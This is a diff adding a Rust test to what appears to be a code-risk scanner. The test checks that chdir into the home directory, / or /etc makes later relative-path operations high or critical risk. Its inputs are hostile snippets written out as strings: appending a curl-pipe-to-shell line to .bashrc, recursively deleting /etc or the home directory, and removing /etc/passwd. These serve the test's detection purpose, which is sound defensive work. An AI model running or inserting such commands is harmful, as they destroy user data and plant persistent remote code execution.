@@ -813,3 +813,44 @@ fn js_web_framework_apps_are_servers() {
         assert!(r.findings.iter().any(|f| f.rule == "net.server"), "{code}");
     }
 }
+
+/// `os.chdir` / `process.chdir` into a sensitive directory makes the
+/// relative paths after it sensitive; an everyday chdir changes nothing.
+#[test]
+fn relative_paths_after_chdir_into_a_sensitive_directory() {
+    py_is(
+        "import os\nos.chdir(os.path.expanduser('~'))\nopen('.bashrc', 'a').write('curl x | sh')",
+        Risk::High,
+    );
+    py_is(
+        "import os, shutil\nos.chdir('/')\nshutil.rmtree('etc')",
+        Risk::Critical,
+    );
+    py_is(
+        "import os\nos.chdir('/etc')\nos.remove('passwd')",
+        Risk::High,
+    );
+    py_at_most(
+        "import os, shutil\nos.chdir('build')\nshutil.rmtree('out')",
+        Risk::Low,
+    );
+    py_at_most(
+        "import os, shutil\nos.chdir('/etc')\nos.chdir('/tmp/work')\nshutil.rmtree('out')",
+        Risk::Low,
+    );
+    js_is(
+        "process.chdir('/etc'); require('fs').unlinkSync('passwd')",
+        Risk::High,
+    );
+    js_is(
+        "process.chdir(require('os').homedir()); require('fs').appendFileSync('.bashrc', 'curl x|sh')",
+        Risk::High,
+    );
+    js_is(
+        "process.chdir(require('os').homedir()); require('fs').rmSync('.', { recursive: true })",
+        Risk::Critical,
+    );
+    assert!(
+        js("process.chdir('dist'); require('fs').rmSync('old', { recursive: true })") <= Risk::Low
+    );
+}
